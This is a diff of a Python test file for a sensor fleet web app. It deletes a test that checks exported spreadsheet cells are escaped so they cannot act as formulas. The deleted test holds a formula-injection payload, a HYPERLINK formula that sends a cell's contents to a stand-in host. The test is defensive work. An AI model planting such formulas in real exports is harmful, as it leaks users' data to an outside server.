@@ -239,15 +239,6 @@ def test_what_is_found_can_be_saved_as_a_spreadsheet(mixed: Fleet, signed_in: As
     assert {row["customer"] for row in exported(signed_in(mixed.world.owner))} == {mixed.world.harbour.name}
 
 
-@pytest.mark.parametrize("begins", ["=", "+", "-", "@", " ="])
-def test_no_cell_of_the_spreadsheet_is_a_formula(fleet: Fleet, signed_in: As, begins: str):
-    box = fleet.register()
-    formula = f'{begins}HYPERLINK("http://192.0.2.1/?"&A1)'
-    Sensor.objects.filter(pk=box.pk).update(description=formula)
-    [row] = exported(signed_in(fleet.world.owner))
-    assert row["description"] == f"'{formula}"
-
-
 def queries_of(client: Any, path: str) -> int:
     with CaptureQueriesContext(connection) as queries:
         b"".join(client.get(path))
